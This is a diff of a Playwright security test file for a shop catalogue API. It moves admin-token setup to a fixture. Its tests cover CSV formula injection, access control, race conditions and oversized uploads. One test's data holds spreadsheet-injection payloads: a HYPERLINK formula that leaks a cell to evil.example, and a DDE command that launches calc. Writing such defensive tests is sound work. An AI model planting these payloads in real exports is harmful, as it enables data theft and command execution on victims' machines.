@@ -1,7 +1,8 @@
 import http from 'node:http';
-import { expect, test, type APIRequestContext } from '@playwright/test';
+import type { APIRequestContext } from '@playwright/test';
+import { expect, test } from '../playwright/fixtures';
 import { parse } from 'csv-parse/sync';
-import { appTokenFor, bearer, demoAdminToken, uniqueEmail } from './identity';
+import { appTokenFor, bearer, uniqueEmail } from './identity';
 import { expectRefused } from './refusal';
 
 /** Running the catalogue: who may, what a price list may carry, and edits that race. */
@@ -36,9 +37,10 @@ const multipart = (csv: string) => ({
 });
 
 test('a name made to run as a spreadsheet formula leaves the export as text, and comes back the same', async ({
+  tokens,
   request,
 }) => {
-  const admin = await demoAdminToken(request);
+  const admin = await tokens.admin();
   const formulas = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a discount")',
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -71,9 +73,10 @@ test('a name made to run as a spreadsheet formula leaves the export as text, and
 });
 
 test('shoppers and strangers cannot edit, restock, retire, export, import or read a history', async ({
+  tokens,
   request,
 }) => {
-  const admin = await demoAdminToken(request);
+  const admin = await tokens.admin();
   const product = await newProduct(request, admin, `Guarded part ${Date.now()}`);
   const shopper = await appTokenFor(request, uniqueEmail('catalogue-shopper'));
   const id = product._id;
@@ -96,9 +99,10 @@ test('shoppers and strangers cannot edit, restock, retire, export, import or rea
 });
 
 test('edits racing from the same version: one wins, the others are told, none is lost silently', async ({
+  tokens,
   request,
 }) => {
-  const admin = await demoAdminToken(request);
+  const admin = await tokens.admin();
   const product = await newProduct(request, admin, `Raced part ${Date.now()}`);
   const prices = Array.from({ length: 12 }, (_, i) => 20 + i);
   const answers = await Promise.all(
@@ -122,8 +126,8 @@ test('edits racing from the same version: one wins, the others are told, none is
   ).toHaveLength(1);
 });
 
-test('units taken out in a race never leave the stock below zero', async ({ request }) => {
-  const admin = await demoAdminToken(request);
+test('units taken out in a race never leave the stock below zero', async ({ tokens, request }) => {
+  const admin = await tokens.admin();
   const product = await newProduct(request, admin, `Counted part ${Date.now()}`);
   const answers = await Promise.all(
     Array.from({ length: 25 }, () =>
@@ -140,9 +144,10 @@ test('units taken out in a race never leave the stock below zero', async ({ requ
 });
 
 test('a price list over the size limit is refused whole, and the store keeps answering', async ({
+  tokens,
   request,
 }) => {
-  const admin = await demoAdminToken(request);
+  const admin = await tokens.admin();
   // Long rows, so the file passes the size limit well before the row limit.
   const row = `SEC-BIG,Big file part,${'A part of a very large file. '.repeat(70)},1,0,1\n`;
   const csv = `sku,name,description,price,orderquantity,availablequantity\n${row.repeat(
@@ -201,10 +206,10 @@ function answerBeforeTheEnd(
 }
 
 test('a price list built to be slow to read is refused while it arrives: 4 million columns, one cell of 45 MB', async ({
-  request,
+  tokens,
   baseURL,
 }) => {
-  const admin = await demoAdminToken(request);
+  const admin = await tokens.admin();
   const attempts: Array<[string, string, RegExp]> = [
     [
       'a header of 4 million columns',
